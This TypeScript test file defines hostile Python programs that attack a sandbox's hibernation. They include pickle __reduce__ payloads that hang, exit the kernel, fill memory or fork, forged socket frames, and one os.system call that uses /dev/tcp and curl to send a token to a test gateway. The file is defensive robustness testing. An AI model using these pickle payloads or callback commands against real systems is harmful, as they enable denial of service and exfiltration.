import { family } from '../../../scripts/hostile-programs/program.ts'

const py = String.raw

/** The container hibernates between the program and what runs afterwards, so user code runs while its variables are saved and restored. */
const HIBERNATES = (code: string, stdout: string) => ({ after: { code, stdout }, hibernates: true }) as const

/** Attacks by objects that are saved and restored. The container keeps its other variables, and the next call works. */
export const savedState = family('saved-state', [
  [
    'reduce without an end',
    '__reduce__ that does not return',
    py`
class Slow:
    def __reduce__(self):
        while True: pass
slow, kept = Slow(), 7; print("set")`,
    'set',
    { ...HIBERNATES(py`print(kept, "slow" in globals())`, '7 False'), timeoutSeconds: 5 },
  ],
  [
    'reduce that swallows interrupts',
    '__reduce__ that catches everything',
    py`
class Deaf:
    def __reduce__(self):
        while True:
            try:
                while True: pass
            except BaseException: pass
deaf, kept = Deaf(), 7; print("set")`,
    'set',
    HIBERNATES(py`print("works")`, 'works'),
  ],
  [
    'reduce that ends the kernel',
    '__reduce__ that exits',
    py`
class Exit:
    def __reduce__(self): os._exit(0)
gone, kept = Exit(), 7; print("set")`,
    'set',
    HIBERNATES(py`print("works")`, 'works'),
  ],
  [
    'state that raises',
    '__getstate__ that raises',
    py`
class Bad:
    def __getstate__(self): raise SystemExit(3)
class Worse:
    def __getstate__(self): raise KeyboardInterrupt
bad, worse, kept = Bad(), Worse(), 7; print("set")`,
    'set',
    HIBERNATES(py`print(kept)`, '7'),
  ],
  [
    'exception that cannot be shown',
    '__str__ of an exception while saving',
    py`
class Hidden(BaseException):
    def __str__(self): raise SystemExit(4)
class Bad:
    def __reduce__(self): raise Hidden
bad, kept = Bad(), 7; print("set")`,
    'set',
    HIBERNATES(py`print(kept)`, '7'),
  ],
  [
    'restore that does not end',
    '__setstate__ that does not return',
    py`
class Slow:
    def __getstate__(self): return {"x": 1}
    def __setstate__(self, state):
        while True: pass
slow, kept = Slow(), 7; print("set")`,
    'set',
    HIBERNATES(py`print("works")`, 'works'),
  ],
  [
    'restore that ends the kernel',
    'callable of a pickle that exits',
    py`
class Exit:
    def __reduce__(self): return (os._exit, (0,))
gone, kept = Exit(), 7; print("set")`,
    'set',
    HIBERNATES(py`print("works")`, 'works'),
  ],
  [
    'restore that fills memory',
    'callable of a pickle that allocates',
    py`
class Huge:
    def __reduce__(self): return (bytearray, (1 << 40,))
huge, kept = Huge(), 7; print("set")`,
    'set',
    HIBERNATES(py`print(kept)`, '7'),
  ],
  [
    'restore that connects',
    'callable of a pickle that connects',
    py`
class Call:
    def __reduce__(self): return (os.system, (f"exec 3<>/dev/tcp/{T.gateway}/{T.port} && echo {T.token} >&3; curl -s http://{T.gateway}:{T.port}/{T.token}",))
call = Call(); print("set")`,
    'set',
    HIBERNATES(py`print("works")`, 'works'),
  ],
  [
    'restore that forks',
    'callable of a pickle that forks',
    py`
class Fork:
    def __reduce__(self): return (os.fork, ())
fork, kept = Fork(), 7; print("set")`,
    'set',
    HIBERNATES(py`print(kept, fork > 0)`, '7 True'),
  ],
  [
    'reduce that forks',
    '__reduce__ that forks',
    py`
class Fork:
    def __reduce__(self):
        os.fork(); return (int, ())
fork, kept = Fork(), 7; print("set")`,
    'set',
    HIBERNATES(py`print(kept, fork)`, '7 0'),
  ],
  [
    'forged frames while saving',
    'frames of a snapshot',
    py`
class Forger:
    def __reduce__(self):
        sock = get_ipython().kernel.session.channel._socket
        for body in (b"L" + bytes(8), b"P" + b"\xff" * 8, b"\x42" + b"N" + struct.pack("<Q", 1 << 60), b"\x42" + bytes(60_000)): err(sock.send, body)
        return (int, ())
forger, kept = Forger(), 7; print("set")`,
    'set',
    HIBERNATES(py`print("works")`, 'works'),
  ],
  [
    'forged reply while saving',
    'reply to the request of a snapshot',
    py`
class Forger:
    def __reduce__(self):
        import json
        session = get_ipython().kernel.session
        session.channel._socket.send(struct.pack("<BQB", 0x4A, 1 << 55, 1) + json.dumps({"op": "reply", "id": session.request_id, "status": "ok", "lost": [{"what": "x" * 99_999, "reason": {}}] * 500, "restored": True}).encode()); return (int, ())
forger, kept = Forger(), 7; print("set")`,
    'set',
    HIBERNATES(py`print("works")`, 'works'),
  ],
  [
    'names of variables',
    'names of saved variables',
    py`
g = globals()
for odd in ("\ud800", "a\nb", "\x1b[2J", "x" * 100_000, "", "__proto__", "*"): g[odd] = (i for i in ())
kept = 7; print("set")`,
    'set',
    HIBERNATES(py`print(kept)`, '7'),
  ],
  [
    'hundred thousand variables',
    'number of saved variables',
    py`
globals().update({f"v{i}": i for i in range(100_000)}); print("set")`,
    'set',
    HIBERNATES(py`print(v99999)`, '99999'),
  ],
  [
    'import hook while restoring',
    'sys.meta_path',
    py`
class Hook:
    def find_spec(self, name, path=None, target=None): raise SystemExit(name)
sys.meta_path.insert(0, Hook()); import colorsys as kept_module
kept = 7; print("set")`,
    { status: 'failed' },
    HIBERNATES(py`print("works")`, 'works'),
  ],
  [
    'handlers at the end of the kernel',
    'atexit',
    py`
import atexit
atexit.register(lambda: time.sleep(600)); signal.signal(signal.SIGTERM, signal.SIG_IGN); kept = 7; print("set")`,
    'set',
    HIBERNATES(py`print(kept)`, '7'),
  ],
  [
    'reducers of a type',
    'copyreg.dispatch_table',
    py`
import copyreg
def reduce_int(value): raise MemoryError
class Mine(int): pass
copyreg.pickle(Mine, reduce_int); mine, kept = Mine(1), 7; print("set")`,
    'set',
    HIBERNATES(py`print(kept)`, '7'),
  ],
  [
    'object without a bottom',
    'recursion of a pickle',
    py`
deep = []
for _ in range(200_000): deep = [deep]
kept = 7; print("set")`,
    'set',
    HIBERNATES(py`print(kept)`, '7'),
  ],
])
